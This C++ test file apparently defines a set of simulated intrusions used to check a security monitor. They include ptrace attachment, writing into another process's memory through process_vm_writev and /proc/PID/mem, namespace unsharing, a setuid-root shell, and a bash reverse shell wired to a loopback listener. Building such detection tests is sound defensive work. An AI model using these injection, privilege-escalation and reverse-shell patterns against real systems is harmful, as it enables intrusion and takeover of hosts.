#include "tests/live/attack.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include <array>
#include <cstdint>
#include <cstdlib>

namespace attack {
namespace {

int traceme(const Arguments& a) {
  const pid_t pid = fork();
  if (pid < 0) die("fork");
  if (pid == 0) {
    if (ptrace(PTRACE_TRACEME, 0, nullptr, nullptr) != 0) die("TRACEME");
    exec("/bin/true", {"true", a[0]});
  }
  int status = 0;
  while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status)) ptrace(PTRACE_CONT, pid, nullptr, nullptr);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

// Seizes a process and lets it go.
int trace(const Arguments& a) {
  const auto pid = static_cast<pid_t>(std::atoi(a[1].c_str()));
  if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) != 0) skip("PTRACE_SEIZE");
  if (ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr) != 0) die("INTERRUPT");
  wait_for(-1);
  ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
  return 0;
}

// Writes into another process, by a call and by its file in /proc; then that runs a program.
int inject(const Arguments& a) {
  static volatile int waiting = 1;
  const pid_t pid = fork();
  if (pid < 0) die("fork");
  if (pid == 0) {
    while (waiting != 0) sched_yield();
    exec("/bin/true", {"true", a[0]});
  }
  int half = 2;
  const iovec from{.iov_base = &half, .iov_len = sizeof half};
  const iovec to{.iov_base = const_cast<int*>(&waiting), .iov_len = sizeof waiting};
  if (process_vm_writev(pid, &from, 1, &to, 1, 0) < 0) {
    kill(pid, SIGKILL);
    wait_for(pid);
    skip("process_vm_writev");
  }
  const int memory = open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_WRONLY | O_CLOEXEC);
  const int none = 0;
  if (memory < 0 ||
      pwrite(memory, &none, sizeof none, static_cast<off_t>(reinterpret_cast<uintptr_t>(&waiting))) < 0) {
    kill(pid, SIGKILL);
    wait_for(pid);
    skip("write to /proc/PID/mem");
  }
  return wait_for(pid);
}

// A program that stays until it is killed.
void hold(const std::string& mark) { exec("/usr/bin/tail", {"tail", "-f", "/dev/null", mark}); }

int userns(const Arguments& a) {
  if (unshare(CLONE_NEWUSER) != 0) skip("unshare user namespace");
  return in_child([&] { hold(a[0]); });
}

int pidns(const Arguments& a) {
  if (unshare(CLONE_NEWPID) != 0) skip("unshare pid namespace");
  return in_child([&] { hold(a[0]); });
}

// Becomes root by its file's set-uid bit, as a hole does, and runs a shell.
int become_root(const Arguments& a) {
  if (setresuid(0, 0, 0) != 0) die("setresuid");
  exec("/bin/sh", {"sh", "-c", ": " + a[0]});
  return 70;
}

// The same without an exec of a set-uid file: an id change that nothing explains.
int drop(const Arguments& a) {
  if (setresgid(65534, 65534, 65534) != 0 || setresuid(65534, 65534, 65534) != 0) die("setresuid");
  Arguments rest(a.begin() + 1, a.end());
  exec(rest[0].c_str(), rest);
  return 70;
}

// A shell whose input and output are a connection, to a listener of our own that has it run one command and keeps it
// until its own standard input ends.
int reverse_shell(const Arguments& a) {
  const int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t length = sizeof address;
  auto* const name = reinterpret_cast<sockaddr*>(&address);
  if (listener < 0 || bind(listener, name, length) != 0 || listen(listener, 1) != 0 ||
      getsockname(listener, name, &length) != 0) {
    die("listen");
  }
  const pid_t shell = fork();
  if (shell < 0) die("fork");
  if (shell == 0) {
    const int out = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(out, name, length) != 0) die("connect");
    for (int stream = 0; stream < 3; ++stream) dup2(out, stream);
    exec("/bin/bash", {"bash", "--norc", "-i"});
  }
  const int in = accept4(listener, nullptr, nullptr, SOCK_CLOEXEC);
  const std::string command = "/bin/true " + a[0] + "\n";
  if (in < 0 || write(in, command.data(), command.size()) < 0) die("accept");
  std::array<char, 4096> said;
  while (read(STDIN_FILENO, said.data(), said.size()) > 0) {
  }
  shutdown(in, SHUT_WR);
  while (read(in, said.data(), said.size()) > 0) {
  }
  return wait_for(shell);
}

constexpr Attack kAll[] = {
    {"traceme", traceme}, {"trace", trace},
    {"inject", inject},   {"userns", userns},
    {"pidns", pidns},     {"become-root", become_root},
    {"drop", drop},       {"reverse-shell", reverse_shell},
};

}  // namespace

std::span<const Attack> intrusions() { return kAll; }

}  // namespace attack
